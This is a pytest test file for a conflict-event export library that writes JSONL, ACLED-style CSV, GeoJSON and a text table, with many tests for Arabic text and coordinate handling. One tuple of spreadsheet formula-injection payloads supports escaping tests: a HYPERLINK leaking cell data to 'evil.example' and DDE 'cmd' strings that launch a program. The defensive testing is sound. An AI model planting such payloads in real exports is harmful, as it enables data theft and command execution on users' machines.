"""Output formats: jsonl, ACLED CSV, GeoJSON and the table."""
from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ahdath.errors import UsageError
from ahdath.export import ACLED_COLUMNS, cell, csv_cell, csv_line, write_events
from ahdath.export.writers import FORMULA_START, display_width

ACLED_ORDER = (
    "event_id_cnty, event_date, year, time_precision, disorder_type, event_type, sub_event_type, actor1, "
    "assoc_actor_1, inter1, actor2, assoc_actor_2, inter2, interaction, civilian_targeting, iso, region, country, "
    "admin1, admin2, admin3, location, latitude, longitude, geo_precision, source, source_scale, notes, "
    "fatalities, tags, timestamp"
)


def _write(events, fmt: str, **kw) -> tuple[int, str]:
    out = io.StringIO()
    n = write_events(iter(events), fmt, out, **kw)
    return n, out.getvalue()


def test_export_acled_columns_are_acleds_in_order() -> None:
    assert ACLED_COLUMNS == tuple(ACLED_ORDER.split(", "))


def test_export_jsonl_one_event_a_line_unescaped(events) -> None:
    n, text = _write(events, "jsonl")
    lines = text.splitlines()
    assert n == 3 and len(lines) == 3
    assert "كفرنبل" in lines[0]  # ensure_ascii=False
    assert [json.loads(line) for line in lines] == [json.loads(json.dumps(e.to_dict())) for e in events]
    assert list(json.loads(lines[0])) == list(events[0].to_dict())


def test_export_csv_header_exact_and_rows(events) -> None:
    n, text = _write(events, "csv", timestamp=1_700_000_000)
    assert n == 3
    assert text.split("\n", 1)[0] == ACLED_ORDER.replace(", ", ",")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 3
    first = rows[0]
    assert first["event_id_cnty"] == "SYR1" and first["timestamp"] == "1700000000"
    assert first["location"] == "Kafr Nobol" and first["latitude"] == "35.6137" and first["iso"] == "760"
    assert first["assoc_actor_1"] == "" and first["tags"] == "" and first["source_scale"] == ""
    assert rows[1]["notes"] == 'Clashes, with "quotes", commas\nand a newline.'  # quoted, round-trips
    assert rows[1]["latitude"] == ""


def test_export_csv_location_falls_back_to_arabic(events) -> None:
    _n, text = _write([replace(events[0], location=None)], "csv")
    assert next(csv.DictReader(io.StringIO(text)))["location"] == "كفرنبل"


def test_export_csv_empty_still_has_header() -> None:
    n, text = _write([], "csv")
    assert n == 0 and text == ACLED_ORDER.replace(", ", ",") + "\n"


def test_export_geojson_valid_feature_collection_without_unplaced(events) -> None:
    n, text = _write(events, "geojson")
    doc = json.loads(text)
    assert n == 2 and doc["type"] == "FeatureCollection" and len(doc["features"]) == 2
    for feature, event in zip(doc["features"], [events[0], events[2]]):
        assert feature["type"] == "Feature"
        assert feature["geometry"] == {"type": "Point", "coordinates": [event.longitude, event.latitude]}
        assert feature["properties"]["event_id"] == event.event_id
        assert feature["properties"]["location_ar"] == event.location_ar


@pytest.mark.parametrize("lat, lon", [(float("nan"), 36.0), (95.0, 36.0), (35.0, None)])
def test_export_geojson_drops_impossible_points(events, lat, lon) -> None:
    n, text = _write([replace(events[0], latitude=lat, longitude=lon)], "geojson")
    assert n == 0 and json.loads(text) == {"type": "FeatureCollection", "features": []}


def test_export_table_aligned_truncated_with_arabic_location(events) -> None:
    n, text = _write(events, "table")
    lines = text.splitlines()
    assert n == 3
    assert lines[0].split() == ["article", "date", "sub_event_type", "actor1", "actor2", "admin1", "fat", "location"]
    assert set(lines[1]) == {"-", " "}
    assert lines[-1] == "3 events"
    body = lines[2:5]
    assert "كفرنبل" in body[0] and "سهل الغاب" in body[1]
    assert "…" in body[2] and "X" * 80 not in body[2]  # long values are cut
    # every column before the (last, Arabic) location starts at the same place on every line
    start = lines[0].index("location")
    assert all(display_width(line[:start]) == start for line in body)


def test_export_table_empty() -> None:
    n, text = _write([], "table")
    assert n == 0 and text.splitlines()[-1] == "0 events"


def test_export_unknown_format_is_a_usage_error(events) -> None:
    with pytest.raises(UsageError) as info:
        write_events(events, "xml", io.StringIO())
    assert info.value.code == "E500"


@pytest.mark.parametrize("text, width", [("abc", 3), ("كفرنبل", 6), ("قُتِلَ", 3), ("東京", 4), ("\u200fحلب", 3)])
def test_export_display_width(text: str, width: int) -> None:
    assert display_width(text) == width


# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): one for each leading character.
FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"اضغط هنا")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("value", FORMULAS, ids=["=", "+", "-", "@", "tab", "cr"])
@pytest.mark.parametrize(("field", "column"), [("source", "source"), ("notes", "notes"), ("actor1", "actor1"),
                                               ("location", "location"), ("event_id", "event_id_cnty"),
                                               ("tags", "tags"), ("event_date", "event_date")])
def test_export_csv_escapes_text_a_spreadsheet_would_run(events, field: str, column: str, value: str) -> None:
    _n, text = _write([replace(events[0], **{field: value})], "csv")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row[column] == "'" + value


def test_export_csv_negative_numbers_stay_numbers(events) -> None:
    _n, text = _write([replace(events[0], latitude=-12.25, longitude=-3.5, fatalities=0, notes="-")], "csv",
                      timestamp=1_700_000_000)
    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-12.25", "-3.5", "0")
    assert row["notes"] == "'-"  # text, even a lone dash, is escaped


@given(st.text())
def test_export_csv_cell_never_starts_like_a_formula(value: str) -> None:
    out = csv_cell(value)
    assert not out.startswith(FORMULA_START)
    assert out == (("'" + value) if value.startswith(FORMULA_START) else value)


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_export_csv_cell_keeps_numbers_as_they_are(value: float) -> None:
    assert csv_cell(value) == cell(value)


@given(st.lists(st.text(alphabet=st.characters(blacklist_characters="\x00")), min_size=1, max_size=5))
def test_export_csv_line_round_trips_any_text(cells: list[str]) -> None:
    line = csv_line(cells)
    assert line.endswith("\n")
    assert list(csv.reader(io.StringIO(line, newline=""))) == [cells]


def test_export_csv_cell_with_a_carriage_return_stays_in_its_row(events) -> None:
    _n, text = _write([replace(events[0], notes="\r=1+1"), replace(events[1], notes="a\rb")], "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["notes"] for r in rows] == ["'\r=1+1", "a\rb"]
    assert [r["event_id_cnty"] for r in rows] == ["SYR1", "SYR2"]
